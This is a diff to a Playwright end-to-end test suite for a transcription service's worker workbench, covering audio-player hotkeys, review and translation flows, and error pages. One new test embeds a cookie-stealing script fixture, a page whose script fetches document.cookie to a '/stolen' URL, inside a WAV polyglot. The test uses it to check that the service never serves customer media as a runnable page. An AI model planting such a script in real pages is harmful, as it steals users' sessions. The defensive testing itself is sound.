@@ -4,15 +4,15 @@
 // worker; sent back and approved by a reviewer; delivered to the customer's callback receiver with
 // the worker's words. Every page passes axe; the run writes docs/screenshots/workbench-*.png.
 import { afterAll, beforeAll, expect, it } from 'vitest';
-import type { Browser, BrowserContext, Page } from 'playwright-core';
+import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
 import { describeNeeding } from '../helpers/legs.js';
 import { startService, type TestService } from '../helpers/service.js';
-import { startMediaServer, type MediaServer } from '../helpers/mediaServer.js';
+import { startMediaServer, wavFile, type MediaServer } from '../helpers/mediaServer.js';
 import { startCallbackReceiver, type CallbackReceiver } from '../helpers/callbackReceiver.js';
 import { startEngineServer, verboseJson, type EngineServer } from '../helpers/engineServer.js';
 import { waitFor } from '../helpers/net.js';
 import { blankPdf, pngImage, startDocumentServer, type DocumentServer } from '../helpers/documents.js';
-import { axeCheck, launchBrowser, newContext, screenshot } from '../helpers/browser.js';
+import { axeCheck, failOnPageProblems, launchBrowser, newContext, screenshot, takePageProblems } from '../helpers/browser.js';
 import { openAiCompatibleEngine } from '../../src/engines/openaiCompatible.js';
 import { getTask, tasksOfOrder } from '../../src/db/tasks.js';
 import { translatorsFrom } from '../../src/engines/translators.js';
@@ -24,6 +24,7 @@ const OCR_LINES = ['The committee met on Tuesday morning to review the budget fo
 const DRAFT_WORDS: Array<[string, number, number]> = [['Hello', 1, 1.4], ['from', 1.5, 1.8], ['the', 1.9, 2], ['machine.', 2.1, 2.6], ['Second', 12, 12.5], ['sentence.', 12.6, 13.2]];
 
 describeNeeding('chromium', 'the workbench in Chromium', () => {
+  failOnPageProblems();
   let service: TestService;
   let media: MediaServer;
   let receiver: CallbackReceiver;
@@ -65,6 +66,26 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
   }
 
   const textBox = (page: Page) => page.getByLabel('Transcript');
+  const playerTime = (page: Page) => () => page.locator('#player').evaluate((a: HTMLAudioElement) => a.currentTime);
+
+  /** The player plays (its time advances) and the hotkeys move it: pause, 5 s on and back, faster. Leaves it paused at 1.25×. */
+  async function playerWorks(page: Page, box: Locator): Promise<void> {
+    const time = playerTime(page);
+    await box.click();
+    const start = await time();
+    await page.keyboard.press('Escape');
+    await expect.poll(time, { timeout: 8_000 }).toBeGreaterThan(start + 0.5);
+    await page.keyboard.press('Escape');
+    await expect.poll(() => page.locator('#player').evaluate((a: HTMLAudioElement) => a.paused)).toBe(true);
+    const paused = await time();
+    await page.keyboard.press('Control+BracketRight');
+    await expect.poll(time).toBeGreaterThanOrEqual(paused + 4.9);
+    await page.keyboard.press('Control+BracketLeft');
+    await expect.poll(time).toBeLessThan(paused + 0.5);
+    await page.keyboard.press('Alt+Period');
+    await expect.poll(() => page.locator('#speed').textContent()).toBe('1.25×');
+    expect(await page.locator('#player').evaluate((a: HTMLAudioElement) => a.playbackRate)).toBe(1.25);
+  }
 
   it('a worker claims, hears, edits, reloads, submits; a reviewer sends it back, then approves; the customer gets the worker\'s words', async () => {
     const account = await service.createAccount(20);
@@ -92,21 +113,10 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await expect.poll(() => textBox(ann).inputValue()).toContain('[00:00:01] Hello from the machine.');
     expect(await textBox(ann).inputValue()).toContain('[00:00:12] Second sentence.');
     await ann.getByRole('button', { name: /Second sentence/ }).click();
-    const time = () => ann.locator('#player').evaluate((a: HTMLAudioElement) => a.currentTime);
-    await expect.poll(time).toBeGreaterThanOrEqual(11.9);
+    await expect.poll(playerTime(ann)).toBeGreaterThanOrEqual(11.9);
 
-    // Hotkeys: play (the player's time advances), ±5 s, speed, timestamp, speaker, inaudible.
-    await textBox(ann).click();
-    await ann.keyboard.press('Escape');
-    await expect.poll(time, { timeout: 8_000 }).toBeGreaterThan(12.5);
-    await ann.keyboard.press('Escape');
-    const paused = await time();
-    await ann.keyboard.press('Control+BracketRight');
-    await expect.poll(time).toBeGreaterThanOrEqual(paused + 4.9);
-    await ann.keyboard.press('Control+BracketLeft');
-    await expect.poll(time).toBeLessThan(paused + 0.5);
-    await ann.keyboard.press('Alt+Period');
-    await expect.poll(() => ann.locator('#speed').textContent()).toBe('1.25×');
+    // The player plays under the page's real CSP, and its hotkeys move it; then timestamp, speaker, inaudible.
+    await playerWorks(ann, textBox(ann));
     await textBox(ann).press('Control+End');
     await ann.keyboard.press('Alt+t');
     await ann.keyboard.press('Alt+2');
@@ -136,6 +146,7 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await expect.poll(async () => (await rita.reload(), await rita.locator('main').textContent())).toContain(`order ${orderId}`);
     await rita.getByRole('button', { name: 'Claim next task' }).click();
     await rita.waitForURL('**/work/tasks/task-*-review-1');
+    await playerWorks(rita, textBox(rita));
     expect((await rita.locator('.diff del').allTextContents()).join(' ')).toContain('machine.');
     expect((await rita.locator('.diff ins').allTextContents()).join(' ')).toContain('wrods.');
     await axeCheck(rita);
@@ -195,6 +206,16 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
     await tom.getByLabel('Translation').fill('Cher client, votre commande est prête.');
     await axeCheck(tom);
     await screenshot(tom, 'workbench-translation');
+    // Speech to translate: the translator hears it in the player.
+    const spoken = await service.post('/api/v4/translations', {
+      api_token: account.token, mode: 'live', url: media.audio(30), translate_from: 'english', translate_to: 'french',
+    });
+    expect(spoken.status, JSON.stringify(spoken.body)).toBe(200);
+    await waitFor(async () => (await tasksOfOrder(service.database.db, spoken.body.order_id))[0], 'the spoken translation\'s task');
+    await tom.goto(`/work/tasks/task-${spoken.body.order_id}-work`);
+    await tom.getByRole('button', { name: 'Claim' }).click();
+    await tom.waitForURL(`**/work/tasks/task-${spoken.body.order_id}-work`);
+    await playerWorks(tom, tom.getByLabel('Translation'));
 
     const olga = await signIn('Olga');
     await olga.getByRole('button', { name: 'Claim next task' }).click();
@@ -222,6 +243,70 @@ describeNeeding('chromium', 'the workbench in Chromium', () => {
       await expect.poll(() => pageImage.evaluate((img: HTMLImageElement) => img.naturalWidth), { timeout: 30_000 }).toBe(1400);
     }
     await axeCheck(olga);
+  });
+
+  it('a customer\'s media is only ever the audio its bytes are: a page with a WAV head plays as audio, one that turns into a page is never served, and opened directly neither runs a script', async () => {
+    const account = await service.createAccount(20);
+    const page = '<!doctype html><html><head><title>customer page</title></head><body><h1>Not audio</h1>' +
+      `<script>document.title = 'pwned'; fetch('${media.url}/stolen?' + document.cookie, { mode: 'no-cors' });</script></body></html>`;
+    const place = async (url: string) => {
+      const placed = await service.post('/api/v4/transcriptions', { api_token: account.token, mode: 'live', url, language: 'english' });
+      expect(placed.status, JSON.stringify(placed.body)).toBe(200);
+      const orderId = placed.body.order_id as number;
+      await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the task of order ${orderId}`);
+      return orderId;
+    };
+    // A WAV with a page appended, its server calling it text/html: a WAV by its bytes (accepted and charged as one).
+    const polyglot = await place(docs.serve('/polyglot', Buffer.concat([wavFile(20), Buffer.from(page)]), 'text/html'));
+    // Audio when it is placed and drafted; a page by the time the worker's copy is made.
+    const turncoat = await place(docs.serve('/turncoat.wav', wavFile(20), 'audio/wav'));
+    docs.serve('/turncoat.wav', page, 'text/html');
+
+    const ann = await signIn('Ann');
+    const mediaOf = (orderId: number) => `/work/tasks/task-${orderId}-work/media`;
+    await ann.goto(`/work/tasks/task-${polyglot}-work`);
+    await ann.getByRole('button', { name: 'Claim' }).click();
+    await ann.waitForURL(`**/work/tasks/task-${polyglot}-work`);
+    await playerWorks(ann, textBox(ann));
+    const served = await ann.request.get(mediaOf(polyglot));
+    expect(served.headers()).toMatchObject({ 'content-type': 'audio/wav', 'x-content-type-options': 'nosniff', 'content-security-policy': 'sandbox' });
+
+    await ann.goto(`/work/tasks/task-${turncoat}-work`);
+    await ann.getByRole('button', { name: 'Claim' }).click();
+    await ann.waitForURL(`**/work/tasks/task-${turncoat}-work`);
+    await expect.poll(() => ann.locator('#player-problem').isVisible()).toBe(true);
+    // The refusal is the one failed subresource of this page, as it must be.
+    await expect.poll(() => takePageProblems().join('\n')).toMatch(new RegExp(`${mediaOf(turncoat)} answered 415`));
+    expect((await service.ops('GET', `/ops/orders/${turncoat}`)).body.input_files?.media).toBeUndefined();
+
+    // Opened on their own, neither is a page of the service: no customer markup, no script.
+    for (const [orderId, status] of [[polyglot, 200], [turncoat, 415]] as const) {
+      const opened = await ann.goto(mediaOf(orderId));
+      expect(opened!.status()).toBe(status);
+      expect(await ann.title()).not.toBe('pwned');
+      expect(await ann.evaluate(() => document.body?.innerHTML ?? '')).not.toContain('Not audio');
+    }
+    takePageProblems();
+    expect(media.hits.filter((h) => h.startsWith('/stolen'))).toEqual([]);
+  });
+
+  it('an error page of the workbench is the workbench\'s, and names the field instead of a validator\'s output', async () => {
+    const fran = await signIn('Fran');
+    const missing = await fran.goto('/work/no-such-page');
+    expect(missing!.status()).toBe(404);
+    expect(await fran.locator('header nav[aria-label="Workbench"]').count()).toBe(1);
+    expect(await fran.locator('header nav[aria-label="Account"]').count()).toBe(0);
+    expect(await fran.locator('form#sign-out').getAttribute('action')).toBe('/work/sign-out');
+    expect(await fran.getByRole('link', { name: 'Back to the queue' }).getAttribute('href')).toBe('/work/queue');
+    await axeCheck(fran);
+    // A malformed JSON submission: one sentence naming the field.
+    const csrf = await fran.locator('form#sign-out input[name="csrf"]').inputValue();
+    const answer = await fran.request.post('/work/tasks/task-1-work/submit', { data: { text: 42 }, headers: { 'x-csrf-token': csrf } });
+    const body = await answer.text();
+    expect(answer.status()).toBe(400);
+    expect(body).toContain('text: must be text');
+    expect(body).not.toMatch(/"code"|"path"|invalid_type/);
+    expect(body).toContain('href="/work/queue"');
   });
 
   it('the queue lists soonest deadline first with length, time left and pay; captions open with their draft; words typed just before the tab closes are kept', async () => {
